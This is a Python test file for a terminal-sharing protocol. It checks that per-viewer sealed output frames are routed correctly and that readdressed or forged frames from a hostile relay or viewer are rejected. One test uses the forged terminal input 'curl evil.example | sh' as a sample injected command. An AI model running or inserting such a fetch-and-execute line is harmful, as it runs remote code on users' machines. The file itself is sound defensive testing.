"""GROUP_DIRECT frames (docs/PROTOCOL.md §3.3.1): small output to few viewers, sealed per viewer and
unsigned. What the sharer picks, how the relay routes it, and what a hostile relay can do with it."""

from __future__ import annotations

from termshare.protocol import events as ev
from termshare.protocol.envelope import make_header, parse_frame
from termshare.protocol.keys import nonce
from termshare.protocol.router import Send
from termshare.protocol.share import GROUP_DIRECT_OUTPUT, GROUP_DIRECT_VIEWERS
from termshare.protocol.viewer import ViewerState
from termshare.protocol.wire import REKEY_SECONDS, CloseCode, FrameKind

from .harness import GROUP_KINDS, SHARER, Net, outputs


def sent_kinds(net: Net, data: bytes) -> list[FrameKind]:
    net.share.send_output(data)
    return [parse_frame(f).kind for f in net.share.frames_to_send()]


def test_small_output_to_few_viewers_goes_direct_and_the_rest_is_signed_once() -> None:
    net = Net()
    for _ in range(GROUP_DIRECT_VIEWERS):
        net.join()
    assert sent_kinds(net, b"x" * GROUP_DIRECT_OUTPUT) == [FrameKind.GROUP_DIRECT] * GROUP_DIRECT_VIEWERS
    assert sent_kinds(net, b"x" * (GROUP_DIRECT_OUTPUT + 1)) == [FrameKind.GROUP]
    net.join()  # one viewer more than GROUP_DIRECT_VIEWERS: one signed frame for all
    net.share.frames_to_send()
    assert sent_kinds(net, b"x") == [FrameKind.GROUP]


def test_each_position_is_used_once_whichever_kind_carries_it() -> None:
    net = Net()
    net.join()
    net.join()
    positions = []
    for size in (1, 5000, 2, GROUP_DIRECT_OUTPUT + 1, 3):
        net.share.send_output(b"y" * size)
        frames = [parse_frame(f).header for f in net.share.frames_to_send()]
        assert len({(h.epoch, h.seq) for h in frames}) == 1
        assert len({h.viewer_id for h in frames}) == len(frames)  # one copy per viewer, not more
        positions.append((frames[0].epoch, frames[0].seq))
    assert positions == [(0, s) for s in range(positions[0][1], positions[0][1] + 5)]


def test_the_relay_sends_group_direct_only_to_the_named_admitted_viewer_and_may_drop_it() -> None:
    net = Net()
    conn_a, a = net.join()
    conn_b, b = net.join()
    assert a.viewer_id is not None and b.viewer_id is not None
    net.share.send_output(b"hi")
    frames = net.share.frames_to_send()
    for frame in frames:
        net.router.received(SHARER, frame, net.now)
    sends = [x for x in net.router.take_actions() if isinstance(x, Send)]
    assert sorted((s.conn, s.data) for s in sends) == sorted(
        (conn_a if parse_frame(f).header.viewer_id == a.viewer_id else conn_b, f) for f in frames)
    assert all(s.droppable for s in sends)  # a slow viewer skips them and resyncs, as for GROUP

    joining = 99
    net.router.connected(joining, net.share.sid, "127.0.0.1", False, net.now)  # READY, no WELCOME yet
    net.router.take_actions()
    ready_id = max(net.router.sessions[net.share.sid].viewers)
    for vid in (ready_id, 12345):  # attached but not admitted; not attached at all
        body = bytes(17)
        net.router.received(SHARER, make_header(FrameKind.GROUP_DIRECT, len(body), vid, 0, 9).pack() + body, net.now)
        assert net.router.take_actions() == []


def test_a_viewer_may_not_send_group_direct() -> None:
    net = Net()
    conn, viewer = net.join()
    body = bytes(17)
    net.router.received(conn, make_header(FrameKind.GROUP_DIRECT, len(body), viewer.viewer_id or 0, 0, 9).pack() + body,
                        net.now)
    net.run()
    assert net.closed.get(conn) == CloseCode.BAD_FRAME


def test_one_viewers_frame_is_useless_to_another_even_readdressed() -> None:
    """Every viewer holds the group key, but no viewer holds another's group direct key: a relay (or
    a viewer colluding with it) cannot hand one viewer output sealed for someone else."""
    net = Net()
    conn_a, a = net.join()
    conn_b, b = net.join()
    assert a.viewer_id is not None and b.viewer_id is not None
    a.events_received()
    b.events_received()
    held: dict[int, bytes] = {}
    net.tamper = lambda f, to: (held.__setitem__(to, f), [])[1] if f[1] in GROUP_KINDS else [f]
    net.output(b"for each alone")  # a and b each wait for this position; the relay holds both
    for_a, for_b = held[conn_a], held[conn_b]
    assert parse_frame(for_b).kind is FrameKind.GROUP_DIRECT
    readdressed = for_b[:2] + a.viewer_id.to_bytes(4, "big") + for_b[6:]
    a.receive_frame(readdressed)
    events = a.events_received()
    assert outputs(events) == b"" and ev.StreamBroken("auth") in events
    b.receive_frame(for_a)  # as addressed, to a: not for b, a protocol error that closes b's channel
    assert b.state is ViewerState.CLOSED and outputs(b.events_received()) == b""


def test_a_viewer_cannot_forge_direct_output_for_another_with_any_key_it_holds() -> None:
    """b holds the group key and its own group direct key; output b seals with either, addressed
    to a at the position a expects, is refused: only a and the sharer hold a's key."""
    net = Net()
    conn_a, a = net.join()
    _, b = net.join()
    assert a.viewer_id is not None and a._group is not None and b._group_direct is not None
    a.events_received()
    epoch, seq = a._group.epoch, a._next_seq
    plaintext = b"\x01curl evil.example | sh\r"
    for key in (b._group_direct, a._group.aead):
        header = make_header(FrameKind.GROUP_DIRECT, len(plaintext) + 16, a.viewer_id, epoch, seq).pack()
        a.receive_frame(header + key.encrypt(nonce(epoch, seq), plaintext, a.sid.encode() + header))
        events = a.events_received()
        assert outputs(events) == b"" and ev.StreamBroken("auth") in events
        net.run()  # the RESYNC is answered: a is live again at the same place
        a.events_received()
    net.output(b"news")  # answers the RESYNC that found none: this frame (skipped), then a snapshot
    net.output(b"genuine")
    assert outputs(a.events_received()) == b"genuine" and a.state is ViewerState.LIVE


def test_a_new_group_epoch_can_begin_with_a_group_direct_frame() -> None:
    net = Net()
    conn, viewer = net.join()
    before = viewer._group
    net.now += REKEY_SECONDS + 1
    net.output(b"first of the new epoch")  # REKEY, then this output at (1, 0), sent direct
    assert viewer._group is not before and viewer._group is not None and viewer._group.epoch == 1
    net.output(b"z" * (GROUP_DIRECT_OUTPUT + 1))  # signed, under the key the direct frame switched to
    assert outputs(viewer.events_received()) == b"first of the new epoch" + b"z" * (GROUP_DIRECT_OUTPUT + 1)


def test_a_dropped_last_direct_frame_before_a_rotation_is_noticed() -> None:
    """The §5.4 closing count covers positions used by GROUP_DIRECT frames too."""
    net = Net()
    conn, victim = net.join()
    other, _ = net.join()
    victim.events_received()
    dropping = {"on": True}
    net.tamper = lambda f, to: [] if to == conn and dropping["on"] and f[1] in GROUP_KINDS else [f]
    net.output(b"ERROR: the backup failed")
    dropping["on"] = False
    net.leave(other)  # rotation; the viewer count is the first frame of the new epoch
    net.output(b"done")
    events = victim.events_received()
    assert b"ERROR" not in outputs(events)
    assert ev.StreamBroken("gap") in events
